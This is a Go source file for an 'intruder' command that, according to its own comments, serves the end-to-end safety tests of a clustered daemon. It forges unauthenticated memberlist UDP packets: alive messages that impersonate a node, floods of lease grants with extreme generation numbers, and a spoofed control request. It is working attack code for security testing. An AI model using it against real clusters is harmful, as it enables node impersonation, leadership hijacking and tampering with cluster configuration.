// Command intruder sends the packets a host on the cluster network can
// send without the cluster's gossip key: plaintext memberlist UDP packets
// with the cluster's label (the cluster name is no secret), forging a
// node's memberlist alive message or node-to-node user messages (frames)
// in a node's name. The end-to-end tests run it in the bed's intruder
// namespace (tests/safety_test.go); it is also a tool for trying a cluster
// by hand:
//
//	intruder -label NAME -to 198.18.0.1,198.18.0.2 -attack alive -pnn 0 -addr 198.18.0.1
//
// Attacks:
//
//	alive       memberlist alive for node pnn-<pnn> at -addr, incarnation
//	            0xFFFFFFFF, meta "leader <pnn>, generation 2^64-1, flags 0"
//	grant-long  lease grants from -leader for sequence numbers 1..-seqs,
//	            generation -gen, lease -lease (1h)
//	grant-gen   the same with generation 2^64-1 and lease 2s
//	control     a control request from -leader: setvar MonitorInterval 1
//
// The wire formats are copied here on purpose, not imported: the daemon's
// own (daemon/member meta.go and frame.go) are being replaced, and this is
// what an attacker would have written against the old ones.
package main

import (
	"encoding/binary"
	"encoding/json"
	"flag"
	"fmt"
	"math"
	"math/rand/v2"
	"net"
	"net/netip"
	"os"
	"strings"
	"time"

	"github.com/hashicorp/memberlist"
)

// memberlist message types (memberlist net.go; values are protocol).
const (
	aliveMsg = 4
	userMsg  = 8
)

func main() {
	label := flag.String("label", "", "the cluster's memberlist label (ctdb.conf [cluster] name)")
	port := flag.Int("port", 4379, "the nodes' gossip port")
	to := flag.String("to", "", "comma-separated addresses to send to")
	attack := flag.String("attack", "", "alive, grant-long, grant-gen or control")
	pnn := flag.Int("pnn", 0, "alive: the node to impersonate")
	addr := flag.String("addr", "", "alive: that node's real private address")
	leader := flag.Int("leader", 0, "frames: the PNN they claim to come from")
	gen := flag.Uint64("gen", 1, "grant-long: the generation to claim")
	seqs := flag.Int("seqs", 2000, "grants: sequence numbers 1..seqs")
	lease := flag.Duration("lease", time.Hour, "grant-long: the lease to grant")
	repeat := flag.Int("repeat", 3, "send everything this many times, 200 ms apart")
	flag.Parse()
	if err := run(*label, *port, *to, *attack, *pnn, *addr, *leader, *gen, *seqs, *lease, *repeat); err != nil {
		fmt.Fprintln(os.Stderr, "intruder:", err)
		os.Exit(1)
	}
}

func run(label string, port int, to, attack string, pnn int, addr string, leader int, gen uint64, seqs int, lease time.Duration, repeat int) error {
	var targets []netip.AddrPort
	for _, s := range strings.Split(to, ",") {
		a, err := netip.ParseAddr(strings.TrimSpace(s))
		if err != nil {
			return fmt.Errorf("-to: %w", err)
		}
		targets = append(targets, netip.AddrPortFrom(a, uint16(port)))
	}
	var msgs [][]byte
	switch attack {
	case "alive":
		a, err := netip.ParseAddr(addr)
		if err != nil || !a.Is4() {
			return fmt.Errorf("-addr %q: want the impersonated node's IPv4 address", addr)
		}
		meta := encodeMeta(pnn, 0, math.MaxUint64, pnn)
		msgs = append(msgs, append([]byte{aliveMsg}, encodeAlive(math.MaxUint32, fmt.Sprintf("pnn-%d", pnn), a, uint16(port), meta)...))
	case "grant-long", "grant-gen":
		g, l := gen, lease
		if attack == "grant-gen" {
			g, l = math.MaxUint64, 2*time.Second
		}
		for seq := 1; seq <= seqs; seq++ {
			// recoverd.LeaseGrant's JSON.
			p, _ := json.Marshal(map[string]any{"seq": seq, "gen": g, "leader": leader, "lease": l})
			msgs = append(msgs, append([]byte{userMsg}, encodeFrame(0, leader, 0, 0, "grant", p)...))
		}
	case "control":
		// control.Request's JSON, as one node forwards it to another.
		p, _ := json.Marshal(map[string]any{"command": "setvar", "args": []string{"MonitorInterval", "1"}, "target": 0})
		id := rand.Uint64N(1<<62) + 1
		msgs = append(msgs, append([]byte{userMsg}, encodeFrame(0x01, leader, id, 10000, "control", p)...))
	default:
		return fmt.Errorf("-attack %q: want alive, grant-long, grant-gen or control", attack)
	}
	c, err := net.ListenUDP("udp4", nil)
	if err != nil {
		return err
	}
	defer c.Close()
	sent := 0
	for r := range repeat {
		if r > 0 {
			time.Sleep(200 * time.Millisecond)
		}
		for _, m := range msgs {
			pkt, err := memberlist.AddLabelHeaderToPacket(m, label)
			if err != nil {
				return err
			}
			for _, t := range targets {
				if _, err := c.WriteToUDPAddrPort(pkt, t); err != nil {
					return fmt.Errorf("sending to %s: %w", t, err)
				}
				sent++
			}
			if sent%200 == 0 {
				// Do not overrun the receivers' socket buffers.
				time.Sleep(2 * time.Millisecond)
			}
		}
	}
	fmt.Printf("intruder: %s: %d packets to %v (label %q)\n", attack, sent, targets, label)
	return nil
}

// encodeMeta is the daemon's memberlist meta, version 1: uvarint PNN,
// uvarint flags, uvarint generation, zig-zag varint leader.
func encodeMeta(pnn int, flags uint32, gen uint64, leader int) []byte {
	b := []byte{1}
	b = binary.AppendUvarint(b, uint64(pnn))
	b = binary.AppendUvarint(b, uint64(flags))
	b = binary.AppendUvarint(b, gen)
	return binary.AppendVarint(b, int64(leader))
}

// encodeFrame is the daemon's node-to-node frame, version 1: flags,
// uvarint sender PNN, uvarint request id, uvarint timeout (ms), uvarint
// kind length, kind, payload.
func encodeFrame(flags byte, from int, id, timeoutMs uint64, kind string, payload []byte) []byte {
	b := []byte{1, flags}
	b = binary.AppendUvarint(b, uint64(from))
	b = binary.AppendUvarint(b, id)
	b = binary.AppendUvarint(b, timeoutMs)
	b = binary.AppendUvarint(b, uint64(len(kind)))
	b = append(b, kind...)
	return append(b, payload...)
}

// encodeAlive is memberlist's alive struct in msgpack as memberlist's
// codec writes it: a map keyed by field name, byte slices as raw strings.
func encodeAlive(inc uint32, node string, addr netip.Addr, port uint16, meta []byte) []byte {
	b := []byte{0x86} // fixmap, 6 entries
	b = mpStr(b, []byte("Incarnation"))
	b = append(b, 0xce)
	b = binary.BigEndian.AppendUint32(b, inc)
	b = mpStr(b, []byte("Node"))
	b = mpStr(b, []byte(node))
	b = mpStr(b, []byte("Addr"))
	a4 := addr.As4()
	b = mpStr(b, a4[:])
	b = mpStr(b, []byte("Port"))
	b = append(b, 0xcd)
	b = binary.BigEndian.AppendUint16(b, port)
	b = mpStr(b, []byte("Meta"))
	b = mpStr(b, meta)
	b = mpStr(b, []byte("Vsn"))
	// Protocol min, max, current; delegate min, max, current: what
	// memberlist 0.7's default LAN config advertises.
	b = mpStr(b, []byte{1, 5, 2, 0, 0, 0})
	return b
}

// mpStr appends s as a msgpack raw string (fixstr or str8).
func mpStr(b, s []byte) []byte {
	if len(s) < 32 {
		b = append(b, 0xa0|byte(len(s)))
	} else {
		b = append(b, 0xd9, byte(len(s)))
	}
	return append(b, s...)
}
